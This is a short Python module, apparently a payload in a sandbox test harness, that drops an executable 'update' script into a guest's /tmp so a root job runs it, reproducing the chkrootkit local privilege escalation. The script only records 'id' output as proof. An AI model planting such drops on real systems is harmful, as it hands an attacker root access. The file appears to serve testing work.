"""Drops an executable ``update`` into the guest's /tmp for a root job to
run, the pattern of the chkrootkit local privilege escalation."""

import os

from plugcell.harness.payloads._common import attempt, hold, in_guest

SCRIPT = b"#!/bin/sh\nid > /tmp/rooted\n"


def drop():
    path = in_guest("/tmp/update")
    with open(path, "wb") as f:
        f.write(SCRIPT)
    os.chmod(path, 0o755)


if __name__ == "__main__":
    attempt("drop-update", drop)
    hold(2)
